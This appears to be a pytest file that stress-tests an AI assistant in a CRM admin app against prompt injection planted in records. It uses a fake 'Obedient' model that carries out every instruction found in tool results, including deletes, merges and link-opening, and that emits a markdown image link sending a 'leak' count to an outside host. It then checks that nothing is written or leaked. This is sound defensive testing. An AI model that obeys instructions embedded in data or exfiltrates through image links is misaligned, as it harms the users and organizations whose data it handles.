"""Hostile records against the assistant's loop: with a model that does all that it reads, nothing comes of it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from app.admin.tools.arguments import Report
from app.admin.tools.kinds import Listed, Readable
from tests.assistant.talks import Talk, employ
from tests.callers import Caller, Callers
from tests.injection.corpus import ELSEWHERE, Order, Planted, numbers_in, orders_in, plant
from tests.peers.models import Asked, Call, Models, Reply, Say

SECRET = "secret-of-another-organization"
EMAIL = "hidden@example.org"


@pytest.fixture
def planted(admin: Caller, stranger: Caller, callers: Callers) -> Planted:
    return plant(admin, callers, foreign=stranger.customer(SECRET, notes=SECRET)["id"])


def reading(planted: Planted) -> Iterator[Call]:
    """Calls that read all that there is."""
    for kind in Readable:
        yield Call("get_record", {"type": kind, "id": planted.ids[kind]})
    for listed in Listed:
        yield Call("list_records", {"type": listed})
        yield Call("describe", {"type": listed})
    for report in Report:
        yield Call("report", {"report": report})
    yield Call("search", {"q": "secret", "limit": 50})
    yield Call("my_day", {})


class Obedient:
    """A model that reads everything first, then does whatever any result tells it to do, and what those tell it."""

    def __init__(self, planted: Planted) -> None:
        self.waiting = list(reading(planted))
        self.known: set[str] = set()
        self.done: list[Order] = []

    def answer(self, asked: Asked) -> Reply:
        for order in orders_in(asked.content.decode()):
            if repr(order) not in self.known:
                self.known.add(repr(order))
                self.done.append(order)
                self.waiting.append(Call(order.tool, order.arguments))
        now, self.waiting = self.waiting[:10], self.waiting[10:]
        return Say((), now) if now else Say((f"Done ![]({ELSEWHERE}/?leak={len(self.done)})",))


def everything(admin: Caller) -> dict[str, Any]:
    """What is in the organization, as its admin sees it."""
    paths = ("customers", "deals", "activities", "notes", "projects", "tags", "pipeline-stages", "trash")
    return {path: admin.ok("GET", f"/admin/{path}")["data"] for path in paths}


@pytest.mark.slow
@pytest.mark.parametrize("provider", ["openai_compatible", "anthropic"])
def test_a_model_that_obeys_every_record_does_no_harm(
    admin: Caller, planted: Planted, models: Models, provider: str
) -> None:
    employ(admin, models, provider)
    before, entries = everything(admin), admin.audit()
    obedient = Obedient(planted)
    models.answer = obedient.answer
    talk = Talk(admin)
    while obedient.waiting:  # an answer has twenty rounds
        events = talk.say("Look at everything")
        assert events[-1]["status"] == "done", events[-2]
    assert {order.tool for order in obedient.done} >= {"delete_record", "merge_customers", "open_link", "search"}
    # The records have reached the model, and it has tried everything that they ask for.
    wire = b"".join(asked.content for asked in models.got).decode()
    assert len(numbers_in(wire)) > 20
    # Nothing is written, nothing of others is seen, and nobody is called but the model.
    assert everything(admin) == before
    assert admin.audit() == entries
    assert SECRET not in wire
    proposals = admin.ok("GET", "/admin/proposals", page_size=100)["data"]
    assert {each["status"] for each in proposals} == {"pending"}
    assert {each["tool"] for each in proposals} >= {"delete_record", "update_record", "move_deal"}


def test_what_goes_to_the_provider_is_what_the_tools_returned_to_this_person(
    admin: Caller, agent: Caller, stranger: Caller, models: Models
) -> None:
    """The whole wire: each string that is in the database and was not returned by a tool would show."""
    employ(admin, models)
    stranger.customer(SECRET)
    admin.customer("Hidden Harry", email=EMAIL, notes="Nobody asked for this one.")
    shown = admin.customer("Ada Lovelace", email="ada@example.com", notes="Likes cogs.")
    models.says(Say((), (Call("get_record", {"type": "customer", "id": shown["id"]}),)), Say(("Cogs.",)))
    talk = Talk(agent)
    events = talk.say("What does Ada like?")
    (result,) = [event for event in events if event["type"] == "tool_result"]
    first, second = (asked.body for asked in models.got)
    # All that was sent: the rules and who asks, the tools, what the person said, and what came of the call.
    assert first.keys() <= {"model", "messages", "tools", "stream", "stream_options", "max_tokens"}
    assert [message["role"] for message in first["messages"]] == ["system", "user"]
    system, user = first["messages"]
    (traced, again) = talk.trace()
    assert system["content"] == traced["system"] == again["system"]
    assert "What does Ada like?" in json.dumps(user)
    assert [tool["function"]["name"] for tool in first["tools"]] == traced["tools"]
    assert second["messages"][:2] == first["messages"]
    call, answered = second["messages"][2:]
    assert call["tool_calls"][0]["function"]["name"] == "get_record"
    assert json.loads(answered["content"]) == result["content"]
    assert again["messages"][-1]["parts"][0]["content"] == result["content"]
    wire = b"".join(asked.content for asked in models.got).decode()
    secrets = (SECRET, EMAIL, "Hidden Harry", agent.headers["Authorization"].split()[1], admin.tenant)
    assert [secret for secret in secrets if secret in wire] == []
    headers = [name for asked in models.got for name in asked.headers]
    assert not {"cookie", "x-organization-id", "x-request-id", "referer"} & {*headers}
